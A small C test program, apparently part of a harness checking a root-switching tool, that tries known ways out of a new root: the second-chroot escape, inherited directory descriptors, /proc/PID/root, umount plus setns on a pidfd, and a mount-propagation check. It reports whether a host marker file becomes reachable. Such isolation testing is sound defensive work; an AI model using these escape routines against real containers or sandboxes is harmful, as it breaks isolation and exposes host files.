/* SPDX-License-Identifier: Apache-2.0
 * attack.c: the known ways out of a new root, one for each word. It runs inside, linked statically, as
 * the command of `pivotcheck switch`; attack_test.sh runs it for every strategy and writes the table.
 *
 *     attack WAY MARKER [DIRECTORY]
 *
 * MARKER is the path of a file of the host's, from the host's root, without the first slash; DIRECTORY
 * is one inside to work with. It prints "OUT" if the file could be opened, "in" if not, and ends with
 * 0; anything else is a broken attack, status 2. A way that the kernel refuses is "in".
 *
 * It is C, and small, so that a reader who doubts the table can check all of it. */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <sched.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <unistd.h>

static const char* marker;

static int opens(int directory, const char* path) {
  const int fd = openat(directory, path, O_RDONLY | O_CLOEXEC);
  if (fd >= 0) close(fd);
  return fd >= 0;
}

/* From where the process stands: up as far as it goes, and then down to the marker. */
static int climbs_out(void) {
  for (int i = 0; i < 64; ++i) {
    if (opens(AT_FDCWD, marker)) return 1;
    if (chdir("..") != 0) return 0;
  }
  return 0;
}

/* chroot(2), "BUGS" as they call it: the root moves below, the current directory does not. */
static int second_chroot(const char* directory) {
  const int root = open("/", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
  if (root < 0) exit(2);
  if (chroot(directory) != 0) return 0;
  if (fchdir(root) != 0) exit(2);
  return climbs_out();
}

/* A directory that somebody opened before the switch. */
static int held_descriptor(void) {
  struct stat status;
  for (int fd = 0; fd < 1024; ++fd) {
    if (fstat(fd, &status) != 0 || !S_ISDIR(status.st_mode)) continue;
    if (fchdir(fd) == 0 && climbs_out()) return 1;
  }
  return 0;
}

/* Somebody else's root, if /proc shows one that is not ours. */
static int proc_root(void) {
  DIR* proc = opendir("/proc");
  if (proc == NULL) exit(2);
  int out = 0;
  struct dirent* entry;
  while (!out && (entry = readdir(proc)) != NULL) {
    if (entry->d_name[0] < '0' || entry->d_name[0] > '9') continue;
    char path[512];
    snprintf(path, sizeof(path), "/proc/%s/root", entry->d_name);
    const int root = open(path, O_PATH | O_DIRECTORY | O_CLOEXEC);
    if (root < 0) continue;
    out = opens(root, marker);
    close(root);
  }
  closedir(proc);
  return out;
}

/* The cover is taken off, and one's own mount namespace is entered once more: setns leads to the top
 * of what is left. A pidfd of oneself is a descriptor of it that needs no /proc. */
static int umount_and_setns(void) {
  const int self = (int)syscall(SYS_pidfd_open, getpid(), 0);
  if (self < 0) exit(2);
  for (int i = 0; i < 4; ++i) {
    const int uncovered = umount2("/", MNT_DETACH) == 0;
    if (setns(self, CLONE_NEWNS) == 0 && climbs_out()) return 1;
    if (!uncovered) break;
  }
  return 0;
}

/* The host looks whether it sees this mount: the caller of the test, not we. */
static int mount_inside(const char* directory) {
  mount("none", directory, "tmpfs", 0, "size=4k");
  return 0;
}

int main(int argc, char** argv) {
  if (argc < 3) return 2;
  const char* way = argv[1];
  const char* directory = argc > 3 ? argv[3] : "/";
  marker = argv[2];
  int out;
  if (strcmp(way, "second-chroot") == 0) out = second_chroot(directory);
  else if (strcmp(way, "descriptor") == 0) out = held_descriptor();
  else if (strcmp(way, "proc") == 0) out = proc_root();
  else if (strcmp(way, "umount-setns") == 0) out = umount_and_setns();
  else if (strcmp(way, "mount") == 0) out = mount_inside(directory);
  else if (strcmp(way, "cwd") == 0) out = climbs_out();
  else return 2;
  puts(out ? "OUT" : "in");
  return 0;
}
